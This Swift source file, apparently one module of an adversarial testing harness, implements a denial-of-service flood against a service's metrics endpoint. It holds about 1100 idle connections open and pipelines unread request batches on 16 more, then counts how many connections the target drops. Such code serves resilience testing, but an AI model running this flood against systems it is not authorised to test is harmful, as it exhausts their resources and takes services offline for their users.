import Foundation
import Multiformats
import NIOCore
import NIOPosix

/// The attack on the metrics endpoint.
extension Attack {
    // MARK: Row 13: the metrics endpoint

    /// The metrics endpoint's IP and port: `/ip4/IP/tcp/PORT` (the chat's
    /// `metrics` event), `http://IP:PORT/...` or `IP:PORT`.
    func metricsTarget() throws -> (ip: String, port: Int) {
        if let address = try? Multiaddr(options.target) {
            var ip: String?
            var port: Int?
            for component in address.components {
                if case .ip4(let bytes) = component { ip = bytes.map(String.init).joined(separator: ".") }
                if case .tcp(let value) = component { port = Int(value) }
            }
            if let ip, let port { return (ip, port) }
        }
        var text = options.target
        if let scheme = text.range(of: "://") { text = String(text[scheme.upperBound...]) }
        text = String(text.prefix { $0 != "/" })
        guard let colon = text.lastIndex(of: ":"), let port = Int(text[text.index(after: colon)...]) else {
            throw AttackError.target("\(options.target) is no HOST:PORT")
        }
        return (String(text[..<colon]), port)
    }

    /// 1100 connections to `--metrics` that never send, refilled, and 16 that
    /// pipeline requests whenever their socket takes more, never reading an answer.
    func floodMetrics() async throws -> String {
        let (ip, port) = try metricsTarget()
        let idle = 1100
        let pipelining = 16
        let open = AttackCounter()
        let closedByTarget = AttackCounter()
        let requests = AttackCounter()
        var idleChannels: [any Channel] = []
        var floodChannels: [any Channel] = []
        var failures = 0
        let batch = HostileFrames.pipelinedMetricsRequests(256)
        // The pipelining ones never read (the answers are never taken); the idle
        // ones read, and drop, so that they see the target close them.
        func connect(from source: String, reading: Bool) async throws -> any Channel {
            let channel = try await ClientBootstrap(group: group)
                .connectTimeout(.seconds(2))
                .channelOption(.autoRead, value: reading)
                .bind(to: SocketAddress(ipAddress: source, port: 0))
                .connect(host: ip, port: port).get()
            open.add()
            channel.closeFuture.whenComplete { _ in
                open.add(-1)
                closedByTarget.add()
            }
            return channel
        }
        while running {
            floodChannels.removeAll { !$0.isActive }
            while floodChannels.count < pipelining, running {
                guard let channel = try? await connect(from: options.source(0), reading: false) else {
                    failures += 1
                    break
                }
                floodChannels.append(channel)
            }
            for channel in floodChannels where channel.isWritable {
                channel.writeAndFlush(batch, promise: nil)
                requests.add(256)
            }
            idleChannels.removeAll { !$0.isActive }
            var added = 0
            while idleChannels.count < idle, added < 100, running {
                guard let channel = try? await connect(from: options.source(1 + idleChannels.count % 4), reading: true) else {
                    failures += 1
                    break
                }
                idleChannels.append(channel)
                added += 1
            }
            await pause(.milliseconds(50))
        }
        let closed = closedByTarget.value
        for channel in idleChannels + floodChannels { try? await channel.close() }
        return "\(requests.value) requests pipelined on \(pipelining) connections, up to \(idle) idle connections, "
            + "\(closed) connections closed by the target, \(failures) connects failed"
    }
}
